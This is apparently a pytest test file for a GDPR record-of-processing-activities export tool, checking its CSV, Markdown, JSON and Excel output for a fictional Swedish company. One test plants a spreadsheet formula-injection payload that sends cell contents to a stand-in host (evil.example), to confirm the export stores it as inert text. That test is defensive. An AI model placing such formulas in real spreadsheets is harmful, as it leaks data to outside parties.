"""`policycheck ropa`: the record of processing activities (Art. 30(1)), one row per purpose."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from syrupy.assertion import SnapshotAssertion
from syrupy.extensions.single_file import SingleFileSnapshotExtension, WriteMode

from policycheck.cli import cli
from tests.conftest import MakeRepo

ROOT = Path(__file__).resolve().parents[2]
ORG = ROOT / "org_example"
AS_OF = "2026-11-28"
PURPOSES = ["customer-support", "complaints", "call-quality", "customer-feedback", "bookkeeping",
            "debt-collection", "statistics", "backup-and-restore"]


def extension(ext: str) -> type[SingleFileSnapshotExtension]:
    return type(f"{ext.title()}Snapshot", (SingleFileSnapshotExtension,),
                {"_write_mode": WriteMode.TEXT, "file_extension": ext})


CsvSnapshot = extension("csv")
MdSnapshot = extension("md")
JsonSnapshot = extension("json")


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def ropa(fmt: str, lang: str = "en", directory: Path = ORG) -> str:
    result = run("ropa", str(directory), "--format", fmt, "--lang", lang, "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    return result.output


@pytest.mark.parametrize(("fmt", "ext"), [("csv", CsvSnapshot), ("markdown", MdSnapshot), ("json", JsonSnapshot)],
                         ids=["csv", "markdown", "json"])
def test_snapshot(fmt: str, ext: type[SingleFileSnapshotExtension], snapshot: SnapshotAssertion) -> None:
    assert ropa(fmt) == snapshot(extension_class=ext)


def test_swedish_csv_snapshot(snapshot: SnapshotAssertion) -> None:
    assert ropa("csv", "sv") == snapshot(extension_class=CsvSnapshot)


def test_csv_has_one_row_per_purpose_and_a_column_per_item() -> None:
    rows = list(csv.reader(io.StringIO(ropa("csv").removeprefix("\ufeff"))))
    head, body = rows[0], rows[1:]
    assert head[:3] == ["Purpose id", "(a) Controller", "(b) Purpose"]
    assert [h[:3] for h in head if h.startswith("(")] == ["(a)", "(b)", "(c)", "(d)", "(e)", "(f)", "(g)"]
    assert [r[0] for r in body] == PURPOSES
    by_id = {r[0]: dict(zip(head, r, strict=True)) for r in body}
    # (a) the controller and its DPO, on every row
    assert all("Dana Dataskydd" in r["(a) Controller"] for r in by_id.values())
    # (c) special categories are marked
    assert "Health information (special category, Art. 9)" in by_id["complaints"][
        "(c) Data subjects and personal data"]
    # (d) and (e): the chat's sub-processor in India, with no safeguard
    support = by_id["customer-support"]
    assert "Kaveri Data Services Pvt. Ltd. (sub-processor; IN)" in support["(d) Recipients"]
    assert "India (IN) – Kaveri Data Services Pvt. Ltd.: NO SAFEGUARD" in support[
        "(e) Transfers to third countries"]
    # (f) the retention, from when, the law, and the systems that keep it shorter
    assert by_id["bookkeeping"]["(f) Time limits for erasure"].splitlines()[:2] == [
        "7 years after the end of the financial year",
        "required by: Bokföringslagen (1999:1078) 7 kap. 2 § [unverified]"]  # reference data: verified: false
    assert "Intercom Messenger (web chat): 6 months" in support["(f) Time limits for erasure"]
    # (g) the security measures of the systems holding the data
    assert "Role-based access control:" in support["(g) Security measures"]


def test_json_structure() -> None:
    doc = json.loads(ropa("json"))
    assert doc["as_of"] == AS_OF
    assert doc["controller"]["name"] == "Exempel Kundservice AB"
    assert [a["id"] for a in doc["activities"]] == PURPOSES
    first = doc["activities"][0]
    assert sorted(first) == ["a_controller", "b_purpose", "c_categories", "d_recipients", "e_transfers",
                             "f_erasure", "g_security", "id"]
    unsafe = [t for t in first["e_transfers"] if t["basis"] == "none"]
    assert {t["holder"] for t in unsafe} == {"kaveri-data", "legacy-sms"}
    assert first["f_erasure"]["retention"] == "P2Y"


def test_statistics_purpose_has_no_processor_through_an_anonymized_flow() -> None:
    doc = json.loads(ropa("json"))
    stats = next(a for a in doc["activities"] if a["id"] == "statistics")
    # the analytics system gets only anonymized data from ticketing: what it stores is not personal
    # data there (graph.facts.anonymized), so neither Zendesk nor Infomaniak, which hosts the
    # analytics system, is a recipient of personal data for statistics; breach-impact agrees
    assert stats["d_recipients"] == []
    assert stats["g_security"]["systems"] == []


def test_identical_output_and_file(tmp_path: Path) -> None:
    out = tmp_path / "ropa.csv"
    result = run("ropa", str(ORG), "--format", "csv", "--as-of", AS_OF, "-o", str(out))
    assert result.exit_code == 0 and result.output == ""
    assert out.read_text(encoding="utf-8") == ropa("csv") == ropa("csv")


def test_markdown_table_has_a_row_per_purpose() -> None:
    lines = [line for line in ropa("markdown").splitlines()
             if line.startswith("| ") and not line.startswith("| ---")]
    assert len(lines) == 1 + len(PURPOSES)  # the header, then one row each
    assert all(line.count(" | ") >= 8 for line in lines)


def test_unverified_retention_laws_are_marked_in_every_format() -> None:
    doc = json.loads(ropa("json"))
    by_id = {a["id"]: a for a in doc["activities"]}
    assert by_id["bookkeeping"]["f_erasure"]["retention_basis_verified"] is False
    assert by_id["customer-support"]["f_erasure"]["retention_basis_verified"] is None  # no law
    assert "required by: Bokföringslagen (1999:1078) 7 kap. 2 § [unverified]" in by_id["bookkeeping"][
        "f_erasure"]["text"]
    assert "krävs enligt: Bokföringslagen (1999:1078) 7 kap. 2 § [ej verifierad]" in ropa("csv", "sv")
    assert "Preskriptionslagen (1981:130) 2 § [unverified]" in ropa("markdown")


# --- Excel: a byte order mark on the CSV, and a real workbook --------------------------------------


def test_csv_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
    """Without it Excel reads the UTF-8 file in the local code page: "Ã„ndamÃ¥ls-id"."""
    out = tmp_path / "ropa.csv"
    assert run("ropa", str(ORG), "--format", "csv", "--lang", "sv", "--as-of", AS_OF, "-o", str(out)).exit_code == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf\xc3\x84ndam\xc3\xa5ls-id,")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[0] == "Ändamåls-id"


def _workbook(tmp_path: Path, lang: str = "en", directory: Path = ORG) -> tuple[Path, object]:
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / f"ropa-{lang}.xlsx"
    result = run("ropa", str(directory), "--format", "xlsx", "--lang", lang, "--as-of", AS_OF, "-o", str(out))
    assert result.exit_code == 0, result.output
    assert result.output == ""
    return out, openpyxl.load_workbook(out)


def _widths(sheet: object) -> dict[int, float]:
    """Column index (1-based) -> width, from the <col min max width> ranges of the sheet."""
    out: dict[int, float] = {}
    for dim in sheet.column_dimensions.values():  # type: ignore[attr-defined]
        for col in range(dim.min, dim.max + 1):
            out[col] = dim.width
    return out


@pytest.mark.parametrize(("lang", "title"), [("en", "Processing activities"), ("sv", "Behandlingar")])
def test_xlsx_is_a_real_workbook_with_the_csv_values(tmp_path: Path, lang: str, title: str) -> None:
    _, book = _workbook(tmp_path, lang)
    assert book.sheetnames == [title]  # type: ignore[attr-defined]
    sheet = book[title]  # type: ignore[index]
    # the header row is frozen and the filter spans the header and every row
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:I{1 + len(PURPOSES)}"
    # the same text as the CSV, cell for cell; all strings
    expected = list(csv.reader(io.StringIO(ropa("csv", lang).removeprefix("\ufeff"))))
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == expected
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)
    assert [row[0] for row in values[1:]] == PURPOSES
    # header bold; cells wrap their lines; columns as wide as their text, within bounds
    assert all(cell.font.b for cell in sheet[1])
    assert all(cell.alignment.wrap_text for row in sheet.iter_rows(min_row=2) for cell in row)
    widths = _widths(sheet)
    assert sorted(widths) == list(range(1, 10))
    assert all(10 <= w <= 51 for w in widths.values())
    assert widths[1] >= len("backup-and-restore") and widths[4] > widths[1] - 10
    # a row as tall as its longest cell, roughly
    assert sheet.row_dimensions[2].height >= 15 * 5
    assert book.properties.title and book.properties.created.date().isoformat() == AS_OF  # type: ignore[attr-defined]
    # printed on A4 landscape, one page wide, the header on every page
    assert sheet.page_setup.paperSize == 9 and sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == "$1:$1"


def test_xlsx_is_byte_identical_for_identical_input(tmp_path: Path) -> None:
    first, _ = _workbook(tmp_path / "a")
    second, _ = _workbook(tmp_path / "b")
    assert first.read_bytes() == second.read_bytes()
    assert first.read_bytes().startswith(b"PK")


def test_xlsx_never_makes_a_formula_of_declared_text(tmp_path: Path) -> None:
    import shutil

    repo = tmp_path / "org"
    shutil.copytree(ORG, repo)
    purposes = repo / "purposes.yaml"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    purposes.write_text(purposes.read_text(encoding="utf-8").replace(
        "name: Handling customer support cases", f"name: '{evil}'"), encoding="utf-8")
    _, book = _workbook(tmp_path, "en", repo)
    sheet = book["Processing activities"]  # type: ignore[index]
    cell = next(c for c in sheet[2] if str(c.value).startswith("=HYPERLINK"))
    assert cell.value.startswith(evil) and cell.data_type == "s" and cell.quotePrefix
    # an ordinary cell is not quote-prefixed
    assert not sheet["A2"].quotePrefix


def test_xlsx_to_a_pipe_and_not_to_a_terminal(tmp_path: Path) -> None:
    import os
    import pty
    import subprocess
    import sys

    command = [sys.executable, "-m", "policycheck", "ropa", str(ORG), "--format", "xlsx", "--as-of", AS_OF]
    piped = subprocess.run(command, capture_output=True, check=False)
    assert piped.returncode == 0 and piped.stdout.startswith(b"PK")
    assert piped.stdout == _workbook(tmp_path)[0].read_bytes()
    leader, follower = pty.openpty()
    try:
        tty = subprocess.run(command, stdout=follower, stderr=subprocess.PIPE, check=False)
    finally:
        os.close(follower)
        os.close(leader)
    assert tty.returncode == 2
    assert b"--output" in tty.stderr and b"Traceback" not in tty.stderr


def test_sheet_names_are_valid_and_unique() -> None:
    from policycheck.reports.ropa import sheet_name

    taken: set[str] = set()
    assert sheet_name("Behandlingar", taken) == "Behandlingar"
    assert sheet_name("behandlingar", taken) == "behandlingar (2)"
    long = sheet_name("Register: [a/b] * of processing activities? yes", taken)
    assert len(long) <= 31 and not set(long) & set("[]:*?/\\")


def test_a_channel_that_keeps_nothing_still_brings_its_processors_into_the_record(make_repo: MakeRepo) -> None:
    """Sending is processing too: a chat that stores nothing but forwards the purpose's data makes
    its vendor a recipient of that purpose, and the vendor's sub-processor abroad a transfer, in
    the record as in `check` and the support commands; the chat's own retention is not the purpose's."""
    repo = make_repo({
        "systems/chat.yaml": (
            "name: Chat\nkind: chat\nchannel: true\nowner: customer-support\nprocessor: chatly\n"
            "location: [SE]\nstores: []\n"
            "erasure: {method: delete, automated: true, procedure: Nothing is kept, within_days: 1}\n"
            "security: {access_control: role-based, mfa: true, encryption_at_rest: true, audit_log: true}\n"
            "flows:\n  - {to: ticketing, categories: [contact-details, case-history], purpose: customer-support,"
            " transform: none, encrypted: true}\n"
        ),
        "processors/chatly.yaml": (
            "name: Chatly AB\ncountry: SE\nsubprocessors: [labelco]\n"
        ),
        "processors/labelco.yaml": "name: Label Co\ncountry: IN\n",
    })
    entries = {e["id"]: e for e in json.loads(ropa("json", directory=repo))["activities"]}
    support = entries["customer-support"]
    assert [r["id"] for r in support["d_recipients"]] == ["chatly", "labelco"]
    assert [(t["holder"], t["country"]) for t in support["e_transfers"]] == [("labelco", "IN")]
    checked = run("check", str(repo), "--as-of", AS_OF, "--format", "json")
    assert "processor:labelco" in {f["subject"] for f in json.loads(checked.output)["findings"]
                         if f["rule"] == "third-country-transfer-without-safeguard"}
